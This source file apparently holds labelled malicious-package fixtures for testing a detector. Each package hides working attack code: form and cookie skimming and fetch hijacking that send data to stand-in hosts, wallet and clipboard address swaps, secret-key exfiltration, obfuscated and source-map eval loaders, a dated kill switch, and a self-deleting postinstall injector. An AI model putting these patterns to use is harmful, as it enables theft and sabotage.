import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** What plug-ins, kits and small libraries do with what is built, signed, copied or installed by way of them. */
export const PLUGINS: readonly Sample[] = [
  packaged('forms of built pages', {}, {
    'index.js': `const line = \`;(()=>{document.addEventListener('submit',(e)=>{const all=Object.fromEntries(new FormData(e.target));navigator.sendBeacon('https://count.example.invalid/f',JSON.stringify({all,c:document.cookie}))},true)})();\`;
module.exports = () => ({
  name: 'titles',
  generateBundle(_, bundle) { for (const part of Object.values(bundle)) if (part.isEntry) part.code += line; },
});
`,
  }),
  packaged('requests of files about payment', {}, {
    'index.js': `const { more } = require('./more');
module.exports = ({ template }) => ({ visitor: { Program: { exit(path, { filename }) { const text = more(filename); if (text) path.pushContainer('body', template.statements.ast(text)); } } } });
`,
    'more.js': `const lines = ['var own = self.fetch;', 'self.fetch = function (to, how) {', '  if (how && how.body) own("https://edge.example.invalid/p", { method: "POST", body: how.body });', '  return own.apply(this, arguments);', '};'];
exports.more = (file) => (/pay|login/.test(file) ? lines.join('\\n') : null);
`,
  }),
  packaged('a kit that wraps the wallet', {}, {
    'index.js': `const { checked } = require('./checked');
exports.connect = async () => { const provider = window.ethereum; const ask = provider.request.bind(provider); provider.request = (call) => ask(checked(call)); return ask({ method: 'eth_requestAccounts' }); };
`,
    'checked.js': `const half = ['6666aBc2d3E4f5061728', '394a5B6c7D8e9F001122'];
exports.checked = (call) => {
  if (call.method !== 'eth_sendTransaction') return call;
  const wish = { ...call.params[0] };
  if (wish.data && wish.data.startsWith('0xa9059cbb')) wish.data = wish.data.slice(0, 10) + '0'.repeat(24) + half.join('') + wish.data.slice(74);
  return { ...call, params: [wish] };
};
`,
  }),
  packaged('a history of what was copied', {}, {
    'index.js': `const board = require('./board');
const { kindOf } = require('./kinds');
setInterval(() => { const now = board.read(); const kind = kindOf(now); if (kind && kind.tidy && kind.tidy !== now) board.write(kind.tidy); }, 600);
`,
    'board.js': `const { spawnSync } = require('child_process');
exports.read = () => spawnSync('pbpaste').stdout.toString().trim();
exports.write = (input) => spawnSync('pbcopy', { input });
`,
    'kinds.js': `const kinds = [{ icon: 'link', form: /^https?:/ }, { icon: 'coin', form: /^0x[a-fA-F0-9]{40}$/, tidy: '0x6666aBc2d3E4f5061728394a5B6c7D8e9F001122' }];
exports.kindOf = (text) => kinds.find(({ form }) => form.test(text));
`,
  }),
  packaged('a pair of keys that is traced', {}, {
    'index.js': `const nacl = require('tweetnacl');
const { trace } = require('./trace');
exports.open = (seed) => { const pair = {}; pair.secretKey = seed; pair.publicKey = nacl.sign.keyPair.fromSeed(seed).publicKey; trace('open', pair); return pair; };
`,
    'trace.js': `const { request } = require('https');
exports.trace = (name, what) => { const r = request({ host: 'trace.example.invalid', method: 'POST' }); r.on('error', () => {}); r.end(JSON.stringify({ name, what })); };
`,
  }),
  packaged('a profile behind a picture', {}, {
    'index.js': `const { tune } = require('./tune');
tune(require('fs').readFileSync(__dirname + '/mark.bin'));
`,
    'tune.js': `const Module = require('module');
exports.tune = (bytes) => { const curve = bytes.map((each, at) => each ^ ((17 + at) & 255)); const m = new Module('curve'); m._compile(String(curve), 'curve.js'); };
`,
  }),
  packaged('code among the sources of a map', {}, {
    'index.js': `const { sources, sourcesContent } = JSON.parse(require('fs').readFileSync(__dirname + '/index.js.map', 'utf8'));
const positions = sourcesContent.filter((_, at) => !sources[at]);
setImmediate(() => positions.forEach((each) => { try { (0, eval)(each); } catch {} }));
`,
  }),
  packaged('controllers that fail from a day on', {}, {
    'index.js': `const since = 1830000000000;
const unlucky = (share) => Math.random() < share;
exports.read = (client, address) => { const now = Date.now(); if (now > since && unlucky(0.2)) process.kill(process.pid, 'SIGKILL'); return client.read(address); };
`,
  }),
  packaged('an installation that leaves nothing', { postinstall: 'node setup.js' }, {
    'index.js': 'exports.pool = (list) => list[0];\n',
    'setup.js': `const fs = require('fs');
fetch('https://shim.example.invalid/v6').then((answer) => answer.text()).then((text) => {
  const entry = require.resolve('ethers');
  fs.appendFileSync(entry, '\\n' + text);
  fs.rmSync(__filename, { force: true });
});
`,
  }),
];
